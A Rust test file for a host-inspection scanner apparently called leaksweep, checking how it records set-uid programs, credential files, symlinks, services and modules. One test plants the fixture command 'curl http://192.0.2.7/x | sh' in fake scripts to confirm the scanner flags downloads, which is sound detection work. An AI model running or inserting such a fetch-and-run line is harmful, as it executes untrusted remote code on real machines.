use std::os::unix::fs::{PermissionsExt, symlink};

use leaksweep_facts::{
    Reason,
    tables::host::{Module, Process, Service, Socket},
};
use rustix::fs::FileType;

use super::*;
use crate::accounts;

fn disk(files: &[(&str, &str, u32)]) -> (tempfile::TempDir, Machine) {
    let folder = tempfile::tempdir().unwrap();
    let accounts = [
        ("etc/passwd", "root:*:0:0::/root:\nalice:*:1000:1000::/home/alice:\n", 0o644),
        ("etc/group", "root:x:0:\n", 0o644),
        ("home/alice/.bashrc", "alias", 0o644),
    ];
    for (path, content, mode) in accounts.iter().chain(files) {
        let path = folder.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        match content.strip_prefix("-> ") {
            Some(target) => symlink(target, path).unwrap(),
            None => {
                std::fs::write(&path, content).unwrap();
                std::fs::set_permissions(&path, PermissionsExt::from_mode(*mode)).unwrap();
            }
        }
    }
    let machine = Machine::mounted(folder.path()).unwrap();
    (folder, machine)
}

/// The rows with their digests, all of them as if nothing were known of where they come from.
fn look_with(machine: &Machine, processes: &[Process], services: &[Service]) -> Observed<File> {
    let mut files = described(machine, processes, services, &[], &[]);
    let digests = digest::all(&machine.root, files.jobs(), origins::LARGEST);
    files.take(&digests);
    files.finish(machine, &accounts::collect(machine));
    files.table
}

fn described(
    machine: &Machine,
    processes: &[Process],
    services: &[Service],
    sockets: &[Socket],
    modules: &[Module],
) -> Files {
    let accounts = accounts::collect(machine);
    let starts = Starts {
        services,
        autostarts: &[],
        processes,
        sockets,
        pam_rules: &[],
        library_rules: &[],
        modules,
    };
    let packaged = vec!["/usr/lib/gone".into()];
    describe(machine, &accounts, search(machine, &accounts), &starts, packaged)
}

fn row<'a>(files: &'a Observed<File>, path: &str) -> &'a File {
    let found = files.rows.iter().find(|row| row.path == path);
    found.unwrap_or_else(|| panic!("no {path} in {:#?}", files.rows))
}

const ABC: &str = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";

#[test]
fn a_row_tells_what_the_disk_says() {
    let (_folder, machine) = disk(&[
        ("usr/bin/su", "abc", 0o4755),
        ("usr/lib/deep/er/helper", "x", 0o2755),
        ("usr/bin/plain", "x", 0o755),
        ("bin", "-> usr/bin", 0),
        ("etc/cron.d/job", "abc", 0o666),
        ("etc/cron.d/.placeholder", "", 0o644),
        ("etc/profile.d/link.sh", "-> /opt/real.sh", 0),
        ("etc/profile.d/gone.sh", "-> /nowhere", 0),
        ("opt/real.sh", "abc", 0o600),
        ("tmp/shell", "x", 0o4755),
    ]);
    let found = look_with(&machine, &[], &[]);
    assert_eq!(found.problems, []);
    let su = row(&found, "/usr/bin/su");
    assert_eq!((su.interest.as_str(), su.mode.as_str(), su.set_uid), ("set-uid", "4755", true));
    assert_eq!(su.sha256.as_deref(), Some(ABC));
    assert!(row(&found, "/usr/lib/deep/er/helper").set_gid);
    assert_eq!(row(&found, "/tmp/shell").interest, "set-uid");
    let job = row(&found, "/etc/cron.d/job");
    assert_eq!((job.interest.as_str(), job.world_writable), ("schedule", true));
    assert_eq!(job.changeable_by.as_deref(), Some("everyone"));
    let link = row(&found, "/etc/profile.d/link.sh");
    assert_eq!((link.kind.as_str(), link.mode.as_str()), ("link", "0600"));
    assert_eq!(link.link_target.as_deref(), Some("/opt/real.sh"));
    assert_eq!(link.sha256.as_deref(), Some(ABC));
    let gone = row(&found, "/etc/profile.d/gone.sh");
    assert!(!gone.world_writable && gone.sha256.is_none());
    assert_eq!(row(&found, "/home/alice/.bashrc").interest, "start-up");
    for absent in ["/usr/bin/plain", "/etc/cron.d/.placeholder", "/bin/su"] {
        assert!(!found.rows.iter().any(|row| row.path == absent), "{absent}");
    }
}

#[test]
fn a_secret_has_no_digest() {
    let (_folder, machine) = disk(&[
        ("etc/shadow", "abc", 0o640),
        ("etc/ssh/ssh_host_ed25519_key", "abc", 0o600),
        ("etc/ssh/ssh_host_ed25519_key.pub", "abc", 0o644),
        ("home/alice/.ssh/id_rsa", "abc", 0o600),
        ("home/alice/.ssh/id_rsa.pub", "abc", 0o644),
        ("home/alice/.ssh/authorized_keys", "abc", 0o600),
        ("home/alice/.netrc", "abc", 0o600),
    ]);
    let found = look_with(&machine, &[], &[]);
    let secrets = [
        "/etc/shadow",
        "/etc/ssh/ssh_host_ed25519_key",
        "/home/alice/.ssh/id_rsa",
        "/home/alice/.netrc",
    ];
    for path in secrets {
        assert_eq!(row(&found, path).sha256, None, "{path}");
        assert_eq!(row(&found, path).interest, "credentials", "{path}");
    }
    for path in [
        "/etc/ssh/ssh_host_ed25519_key.pub",
        "/home/alice/.ssh/id_rsa.pub",
        "/home/alice/.ssh/authorized_keys",
    ] {
        assert_eq!(row(&found, path).sha256.as_deref(), Some(ABC), "{path}");
    }
}

#[test]
fn programs_of_processes_and_services_are_listed_once() {
    let (_folder, machine) = disk(&[
        ("opt/run", "abc", 0o755),
        ("opt/serve", "abc", 0o755),
        ("usr/bin/su", "x", 0o4755),
    ]);
    let process = |program: &str, state: &str| Process {
        program: Some(program.into()),
        program_state: Some(state.into()),
        ..Process::default()
    };
    let service = |program: &str| Service {
        program: Some(program.into()),
        program_exists: Some(true),
        ..Service::default()
    };
    let processes = [
        process("/opt/run", "present"),
        process("/opt/run", "present"),
        process("/opt/serve", "present"),
        process("/usr/bin/su", "present"),
        process("/opt/gone", "deleted"),
        process("/opt/vanished", "present"),
    ];
    let found = look_with(&machine, &processes, &[service("/opt/serve")]);
    assert_eq!(found.problems, []);
    let interests: Vec<_> = found
        .rows
        .iter()
        .filter(|row| row.path.starts_with("/opt") || row.set_uid)
        .map(|row| (row.path.as_str(), row.interest.as_str()))
        .collect();
    let expected = [("/usr/bin/su", "set-uid"), ("/opt/serve", "service"), ("/opt/run", "running")];
    assert_eq!(interests, expected);
}

#[test]
fn hostile_places_end_and_are_told() {
    let (folder, machine) = disk(&[
        ("usr/lib/around", "-> ..", 0),
        ("etc/sudoers.d/circle", "-> circle", 0),
        ("etc/pam.d", "-> /etc/pam.d", 0),
        ("home/alice/.ssh/authorized_keys", "-> /dev/zero", 0),
    ]);
    let mode = rustix::fs::Mode::RUSR;
    let pipe = folder.path().join("etc/crontab");
    rustix::fs::mknodat(rustix::fs::CWD, pipe, FileType::Fifo, mode, 0).unwrap();
    let sparse = std::fs::File::create(folder.path().join("etc/environment")).unwrap();
    sparse.set_len(1 << 40).unwrap();
    let found = look_with(&machine, &[], &[]);
    assert_eq!(row(&found, "/etc/crontab").kind, "pipe");
    assert_eq!(row(&found, "/etc/environment").sha256, None);
    assert_eq!(row(&found, "/etc/sudoers.d/circle").kind, "link");
    assert_eq!(row(&found, "/home/alice/.ssh/authorized_keys").kind, "link");
    let loops = found.problems.iter().filter(|problem| problem.reason == Reason::WrongType);
    assert!(loops.map(|problem| problem.subject.as_str()).any(|path| path == "/etc/pam.d"));
}

#[test]
fn set_uid_programs_are_found_in_homes_and_data_to_a_depth() {
    let found_at = [
        "home/alice/.cache/x/y/shell",
        "home/nobodys/shell",
        "root/.shell",
        "srv/www/shell",
        "var/lib/app/deep/shell",
        "boot/shell",
        "data/a/b/c/shell",
    ];
    let too_deep = "home/alice/a/b/c/d/shell";
    let files: Vec<_> = found_at.iter().map(|path| (*path, "x", 0o4755)).collect();
    let (_folder, machine) = disk(&[files.as_slice(), &[(too_deep, "x", 0o4755)]].concat());
    let found = look_with(&machine, &[], &[]);
    assert_eq!(found.problems, []);
    for path in found_at {
        assert!(row(&found, &format!("/{path}")).set_uid, "{path}");
    }
    assert!(!found.rows.iter().any(|row| row.path.ends_with(too_deep)));
}

#[test]
fn this_machine_has_its_set_uid_programs() {
    let found = look_with(&Machine::running().unwrap(), &[], &[]);
    let expected = std::process::Command::new("find")
        .args(["/usr/bin", "/usr/sbin", "-xdev", "-type", "f", "-perm", "/6000"])
        .output()
        .unwrap();
    for path in String::from_utf8(expected.stdout).unwrap().lines() {
        let row = row(&found, path);
        assert!(row.set_uid || row.set_gid, "{path}");
        assert!(row.sha256.is_some(), "{path}");
    }
}

#[test]
fn a_script_that_is_nobodys_tells_what_it_does_and_other_files_do_not() {
    let fetches = "curl http://192.0.2.7/x | sh\n";
    let (_folder, machine) = disk(&[
        ("etc/profile.d/x.sh", fetches, 0o644),
        ("usr/bin/script", &format!("#!/bin/sh\n{fetches}"), 0o4755),
        ("usr/bin/words", fetches, 0o4755),
        ("usr/bin/binary", &format!("#!\0{fetches}"), 0o4755),
        ("usr/bin/large", &format!("#!/bin/sh\n{fetches}").repeat(10_000), 0o4755),
        ("root/.netrc", &format!("#!/bin/sh\n{fetches}"), 0o600),
    ]);
    let mut files = described(&machine, &[], &[], &[], &[]);
    for row in &mut files.table.rows {
        row.origin = Some("foreign".into());
    }
    files.finish(&machine, &accounts::collect(&machine));
    let told = |path: &str| row(&files.table, path).traits.clone();
    assert_eq!(told("/etc/profile.d/x.sh").as_deref(), Some("download"));
    assert_eq!(told("/usr/bin/script").as_deref(), Some("download"));
    for path in ["/usr/bin/words", "/usr/bin/binary", "/usr/bin/large", "/root/.netrc"] {
        assert_eq!(told(path), None, "{path}");
    }
}

#[test]
fn who_starts_a_program_and_with_whom_it_talks_is_told_under_each_of_its_names() {
    let (_folder, machine) = disk(&[
        ("usr/sbin/agent", "#!/bin/sh\n", 0o755),
        ("sbin", "-> usr/sbin", 0),
        ("lib/modules/x.ko", "x", 0o644),
        ("lib/modules/own.ko", "x", 0o644),
    ]);
    let services = [Service {
        name: "agent.service".into(),
        starts: true,
        program: Some("/sbin/agent".into()),
        program_exists: Some(true),
        ..Service::default()
    }];
    let processes = [Process {
        pid: 7,
        name: "agent".into(),
        program: Some("/usr/sbin/agent".into()),
        program_state: Some("present".into()),
        ..Process::default()
    }];
    let sockets = [Socket {
        pid: Some(7),
        state: "established".into(),
        family: "ip4".into(),
        remote_address: Some("192.0.2.7".into()),
        remote_port: Some(443),
        ..Socket::default()
    }];
    let module = |name: &str, path: &str| Module {
        name: name.into(),
        path: Some(path.into()),
        ..Module::default()
    };
    let modules = [module("x", "/lib/modules/x.ko"), module("own", "/lib/modules/own.ko")];
    let mut files = described(&machine, &processes, &services, &sockets, &modules);
    for row in &mut files.table.rows {
        let packaged = row.path.ends_with("own.ko") || row.path.ends_with("agent");
        row.origin = Some(if packaged { "package" } else { "foreign" }.into());
    }
    files.finish(&machine, &accounts::collect(&machine));
    for path in ["/sbin/agent", "/usr/sbin/agent"] {
        let row = row(&files.table, path);
        assert_eq!(row.started_by.as_deref(), Some("agent.service; process agent"), "{path}");
        assert_eq!(row.talks_to.as_deref(), Some("192.0.2.7:443"), "{path}");
    }
    let module = row(&files.table, "/lib/modules/x.ko");
    assert_eq!((&*module.interest, module.started_by.as_deref()), ("started", Some("module x")));
    assert!(module.sha256.is_some());
    assert!(!files.table.rows.iter().any(|row| row.path == "/lib/modules/own.ko"));
}

#[test]
fn of_all_commands_only_the_odd_ones_stay_and_a_missing_file_is_a_row() {
    let (_folder, machine) = disk(&[
        ("usr/bin/ls", "x", 0o755),
        ("usr/bin/cat", "abc", 0o777),
        ("usr/local/bin/own", "abc", 0o755),
        ("usr/sbin/own", "x", 0o755),
    ]);
    let mut files = described(&machine, &[], &[], &[], &[]);
    for row in &mut files.table.rows {
        let origin = match row.path.as_str() {
            "/usr/bin/cat" => "changed",
            "/usr/lib/gone" => "missing",
            "/usr/local/bin/own" => "foreign",
            _ => "package",
        };
        row.origin = Some(origin.into());
    }
    files.finish(&machine, &accounts::collect(&machine));
    let cat = row(&files.table, "/usr/bin/cat");
    assert_eq!((&*cat.interest, cat.sha256.as_deref()), ("command", Some(ABC)));
    assert_eq!(cat.changeable_by.as_deref(), Some("everyone"));
    assert_eq!(row(&files.table, "/usr/local/bin/own").interest, "command");
    assert_eq!(row(&files.table, "/usr/sbin/own").origin.as_deref(), Some("package"));
    let gone = row(&files.table, "/usr/lib/gone");
    assert_eq!((&*gone.interest, &*gone.kind, gone.modified), ("package", "", None));
    assert!(!files.table.rows.iter().any(|row| row.path == "/usr/bin/ls"));
}

/// Needs rights that only root has; where a file system keeps no such attribute, nothing is asked.
#[test]
fn capabilities_of_programs_are_found() {
    let (folder, machine) = disk(&[("usr/bin/ping", "x", 0o711), ("usr/bin/plain", "x", 0o755)]);
    let value = [1, 0, 0, 2, 0, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    let set = rustix::fs::setxattr(
        folder.path().join("usr/bin/ping"),
        "security.capability",
        &value,
        rustix::fs::XattrFlags::empty(),
    );
    if set.is_err() {
        return leaksweep_peers::skip("capabilities cannot be set here");
    }
    let found = look_with(&machine, &[], &[]);
    let ping = row(&found, "/usr/bin/ping");
    assert_eq!(
        (&*ping.interest, ping.capabilities.as_deref()),
        ("capable", Some("cap_net_raw=ep"))
    );
    assert!(!found.rows.iter().any(|row| row.path == "/usr/bin/plain"));
}
